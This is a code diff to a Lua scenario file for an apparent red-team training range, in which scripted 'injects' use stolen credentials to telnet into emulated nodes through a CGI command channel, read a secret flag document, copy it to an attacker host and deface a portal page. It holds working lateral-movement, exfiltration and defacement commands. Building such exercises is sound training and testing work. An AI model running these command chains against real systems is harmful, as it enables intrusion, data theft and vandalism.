@@ -149,11 +149,22 @@ local function via_cgi(ctx, cmd, timeout)
 end
 
 -- A telnet session from dichvucong to another node (lateral movement): logs
--- in with the stolen credentials and runs one command. The sleeps pace the
--- dialogue for slow emulated guests.
+-- in with the stolen credentials and runs one command, as an attacker's
+-- expect-like loop would: each answer waits for its prompt (login discards
+-- what is typed before the password prompt, and a loaded emulated guest may
+-- take seconds to show it), and the session ends once the command's end
+-- marker comes back. Each wait gives up after 25 s.
 local function telnet_cmd(ctx, node, user, pass, cmd)
-  return string.format("(sleep 3; echo %s; sleep 2; echo %s; sleep 2; echo '%s'; sleep 3) "
-                       .. "| telnet %s 23", user, pass, cmd, ctx.addr(node))
+  -- No '&' or '+' (the CGI splits its query on the one and turns the other
+  -- into a space).
+  local function wait_for(text)
+    return string.format("i=50; until grep -q '%s' $t || [ $i -le 0 ]; do sleep 0.5; "
+                         .. "i=$((i-1)); done; ", text)
+  end
+  return string.format("t=/tmp/.tn$$; (%secho %s; %secho %s; %ssleep 1; echo '%s; echo LF''-END'; "
+                       .. "%s) | telnet %s 23 >$t; cat $t; rm -f $t",
+                       wait_for("login: "), user, wait_for("assword"), pass, wait_for("[#$] *$"),
+                       cmd, wait_for("^LF-END"), ctx.addr(node))
 end
 
 local function creds(ctx)
@@ -205,7 +216,7 @@ inject "lateral-docs" {
   run = function(ctx)
     local user, pass = creds(ctx)
     if not user then return false, "no stolen credentials" end
-    local out = via_cgi(ctx, telnet_cmd(ctx, "docs", user, pass, "id"), 90)
+    local out = via_cgi(ctx, telnet_cmd(ctx, "docs", user, pass, "id"), 120)
     return out ~= nil and out:find("uid=0", 1, true) ~= nil, "telnet login as " .. user
   end,
 }
@@ -213,12 +224,13 @@ inject "lateral-docs" {
 inject "exfil-doc" {
   owner = "red", technique = "T1041", target = "docs",
   after = { inject = "lateral-docs", on = "success", delay = "5m" },
-  points = { success = 100 },
+  repeats = 2, every = "5m", until_success = true, points = { success = 100 },
   description = "Copy the secret document out over the web channel to the attacker",
   run = function(ctx)
     local user, pass = creds(ctx)
     if not user then return false, "no stolen credentials" end
-    local out = via_cgi(ctx, telnet_cmd(ctx, "docs", user, pass, "cat /srv/docs/secret.txt"), 90)
+    local out = via_cgi(ctx, telnet_cmd(ctx, "docs", user, pass, "cat /srv/docs/secret.txt"),
+                     120)
     if not out or not out:find("FLAG{", 1, true) then return false, "document not read" end
     ctx.put("attacker", "/loot/secret.txt", out)
     return ctx.objective("steal-doc", { node = "attacker", path = "/loot/secret.txt" })
@@ -234,7 +246,7 @@ inject "deface-portal" {
     local user, pass = creds(ctx)
     if not user then return false, "no stolen credentials" end
     via_cgi(ctx, telnet_cmd(ctx, "portal", user, pass,
-                            "echo HACKED-BY-RED1 > /www/index.html"), 90)
+                            "echo HACKED-BY-RED1 > /www/index.html"), 120)
     return ctx.objective("deface-portal")
   end,
 }
